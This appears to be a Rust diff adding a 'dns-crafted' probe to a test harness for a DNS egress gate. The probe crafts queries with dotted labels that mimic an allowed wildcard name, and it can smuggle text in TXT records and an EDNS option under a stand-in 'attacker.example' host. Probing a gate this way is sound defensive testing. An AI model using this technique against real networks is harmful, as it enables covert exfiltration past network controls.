@@ -11,11 +11,12 @@ use std::sync::Arc;
 use std::sync::atomic::{AtomicBool, AtomicI32, AtomicU64, Ordering};
 use std::time::{Duration, Instant};
 
-use hickory_proto::op::{Message, MessageType, OpCode, Query};
-use hickory_proto::rr::rdata::A;
+use hickory_proto::op::{Edns, Message, MessageType, OpCode, Query};
+use hickory_proto::rr::rdata::opt::EdnsOption;
+use hickory_proto::rr::rdata::{A, TXT};
 use hickory_proto::rr::{Name, RData, Record, RecordType};
 
-use crate::probes::{nameserver, outcome_of, query, query_packet, rcode};
+use crate::probes::{exchange, nameserver, outcome_of, query, query_packet, rcode};
 use crate::{Args, report};
 
 /// The kernel's ephemeral ports: where a resolver's query leaves from.
@@ -541,4 +542,43 @@ pub fn tty_stop(args: &Args) {
     let stopped = unsafe { libc::tcflow(0, libc::TCOOFF) } == 0;
     let _ = std::fs::write(args.arg(1), if stopped { "stopped\n" } else { "failed\n" });
     std::thread::sleep(Duration::from_secs(3600));
+}
+
+/// `dns-crafted LABELS [--smuggle TEXT]`: an A query the gate should look at twice. LABELS is
+/// the name's labels separated by `|`, so one label may hold dots (`evil.attacker.wild|test`,
+/// which as text reads like a name under `*.wild.test`). With `--smuggle`, TEXT rides along in a
+/// TXT record in each of the other three sections and in an EDNS option.
+pub fn dns_crafted(args: &Args) {
+    let Some(server) = args.flag("--server").and_then(|s| s.parse().ok()).or_else(nameserver) else {
+        return report(&[("outcome", "dns:no-nameserver".into())]);
+    };
+    let spelled = args.arg(1);
+    let labels: Vec<&[u8]> = spelled.split('|').map(str::as_bytes).collect();
+    let Ok(name) = Name::from_labels(labels).map(|n| {
+        let mut n = n;
+        n.set_fqdn(true);
+        n
+    }) else {
+        return report(&[("outcome", "bad-name".into())]);
+    };
+    let mut message = Message::new();
+    message.set_id(std::process::id() as u16).set_recursion_desired(true);
+    message.add_query(Query::query(name, RecordType::A));
+    if let Some(text) = args.flag("--smuggle") {
+        let carrier = Name::from_str("carrier.attacker.example.").expect("a fixed name");
+        let txt = || Record::from_rdata(carrier.clone(), 60, RData::TXT(TXT::new(vec![text.clone()])));
+        message.add_answer(txt()).add_name_server(txt()).add_additional(txt());
+        let mut edns = Edns::new();
+        edns.options_mut().insert(EdnsOption::Unknown(65001, text.as_bytes().to_vec()));
+        message.set_edns(edns);
+    }
+    let outcome = match message
+        .to_vec()
+        .map_err(|e| e.to_string())
+        .and_then(|p| exchange(&p, server, args.timeout()))
+    {
+        Ok(reply) => format!("dns:{}", rcode(reply.response_code())),
+        Err(e) => format!("dns:{e}"),
+    };
+    report(&[("outcome", outcome)]);
 }
